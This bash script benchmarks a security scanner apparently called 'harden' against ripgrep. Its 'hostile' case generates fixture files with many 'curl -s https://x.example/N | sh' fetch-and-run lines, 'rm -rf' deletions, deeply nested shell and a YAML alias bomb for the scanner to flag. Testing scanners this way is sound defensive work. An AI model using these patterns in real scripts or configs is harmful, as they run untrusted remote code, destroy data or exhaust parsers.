#!/usr/bin/env bash
# Benchmark `harden scan` against ripgrep reading the same files.
#
# usage: bench/run.sh [synthetic|curve|real|hostile|all]
#   synthetic  a generated tree of 50,000 files (bench/gen_tree.py)
#   curve      the generated tree at 10,000, 25,000 and 50,000 files: cost per file
#              should stay flat (linear cost); not part of `all`
#   real       an unpacked PyPI sdist (ansible-core), downloaded once with pip
#   hostile    the pathological inputs of issue 13, one tree each (nested shell,
#              duplicated pins, an alias bomb, 100k findings to SARIF): seconds and
#              peak RSS per case, to catch a rule going quadratic again
#
# Prints wall times (hyperfine, warm cache), the ratio harden/rg and harden's
# peak RSS. Not a test: numbers depend on the machine.
set -euo pipefail
cd "$(dirname "$0")/.."

what="${1:-all}"
work="${BENCH_DIR:-target/bench}"
mkdir -p "$work"

cargo build --release --quiet
bin="$PWD/target/release/harden"

need() { command -v "$1" >/dev/null 2>&1 || { echo "bench: $1 is required (apt-get install ripgrep hyperfine time)" >&2; exit 2; }; }
need rg
need hyperfine
[ -x /usr/bin/time ] || { echo "bench: GNU time is required (apt-get install time)" >&2; exit 2; }

# The engine's own floor: every rule family disabled (walk, read, parse, model).
floor_config="$work/all-rules-off.toml"
families=$("$bin" rules | grep -oE '^[a-z0-9-]+/' | sort -u | tr -d / | sed 's/.*/"&"/' | paste -sd, -)
echo "disable = [$families]" > "$floor_config"

bench_tree() {
    local name="$1" tree="$2"
    local files
    files=$(rg --files --hidden -uu "$tree" | wc -l)
    echo "== $name: $tree ($files files)"
    # rg reads every file harden may read (hidden included, .gitignore honoured).
    hyperfine --warmup 2 --runs 5 --export-json "$work/$name.json" \
        --command-name rg "rg -c --hidden . '$tree' > /dev/null" \
        --command-name harden "'$bin' scan --format json --fail-on critical '$tree' > /dev/null" \
        --command-name floor "'$bin' scan --config '$floor_config' --format json --fail-on critical '$tree' > /dev/null" >/dev/null
    python3 - "$work/$name.json" "$files" <<'PY'
import json, sys
r = {x["command"]: x for x in json.load(open(sys.argv[1]))["results"]}
n = int(sys.argv[2])
rg, h, f = r["rg"]["median"], r["harden"]["median"], r["floor"]["median"]
print(f"rg median {rg:.3f}s, harden median {h:.3f}s, ratio {h / rg:.2f}x "
      f"({h / n * 1e6:.0f} us/file); every rule off {f:.3f}s, ratio {f / rg:.2f}x")
PY
    /usr/bin/time -f "harden peak RSS: %M KiB" "$bin" scan --format json --fail-on critical "$tree" > /dev/null
    "$bin" scan --format json --fail-on critical "$tree" | python3 -c 'import json,sys; s=json.load(sys.stdin)["summary"]; print("findings:", s["findings"], "scanned:", s["files_scanned"], "skipped:", s["files_skipped"])'
}

if [ "$what" = synthetic ] || [ "$what" = all ]; then
    tree="$work/synthetic-50k"
    [ -d "$tree" ] || python3 bench/gen_tree.py "$tree" 50000
    bench_tree synthetic "$tree"
fi

if [ "$what" = curve ]; then
    for n in 10000 25000 50000; do
        tree="$work/synthetic-$((n / 1000))k"
        [ -d "$tree" ] || python3 bench/gen_tree.py "$tree" "$n"
        bench_tree "curve-$((n / 1000))k" "$tree"
    done
fi

if [ "$what" = real ] || [ "$what" = all ]; then
    tree="$work/ansible-core"
    if [ ! -d "$tree" ]; then
        tmp=$(mktemp -d)
        pip download --quiet --no-deps --no-binary :all: ansible-core -d "$tmp"
        mkdir -p "$tree"
        tar -xzf "$tmp"/ansible_core-*.tar.gz -C "$tree" --strip-components=1
        rm -rf "$tmp"
    fi
    bench_tree real "$tree"
fi

if [ "$what" = hostile ] || [ "$what" = all ]; then
    base="$work/hostile"
    rm -rf "$base"
    python3 - "$base" <<'PY'
import os, sys
base = sys.argv[1]
def w(rel, text):
    p = os.path.join(base, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    open(p, "w").write(text)
n = 2000
w("nested-shell/deploy.sh", "#!/bin/bash\n" + "if [ -n \"$(echo $(true))\" ]; then\n" * 900
  + "rm -rf \"$X/\"\n" + "fi\n" * 900 + "".join(
  "if [ -f /x%d ]; then echo $(cat /x%d) | grep -q y && rm -rf \"$D%d/\"; fi\n" % (i, i, i) for i in range(n)))
w("duplicate-pins/requirements.txt", "".join("pkg%d>=1.0\n" % (i % 3) for i in range(8000)))
w("duplicate-pins/requirements-dev.txt", "pkg0>=1.0\n" * 4000)
bomb = 'x-a: &a ["x","x","x","x","x","x","x","x","x"]\n'
names = "abcdefgh"
for i in range(1, 8):
    bomb += "x-%s: &%s [%s]\n" % (names[i], names[i], ",".join(["*" + names[i - 1]] * 9))
w("alias-bomb/docker-compose.yml", bomb + "services:\n  web:\n    image: nginx:1.27\n    x: *h\n")
for d in range(100):
    w("many-findings/s%03d.sh" % d, "#!/bin/bash\n" + "".join(
      "curl -s https://x.example/%d | sh\nrm -rf \"$D%d/\"\n" % (i, i) for i in range(500)))
PY
    for case in nested-shell duplicate-pins alias-bomb many-findings; do
        for fmt in json sarif; do
            [ "$case" = many-findings ] || [ "$fmt" = json ] || continue
            /usr/bin/time -f "hostile $case ($fmt): %e s, peak RSS %M KiB" \
                "$bin" scan --format "$fmt" --fail-on critical "$base/$case" > /dev/null
        done
    done
fi
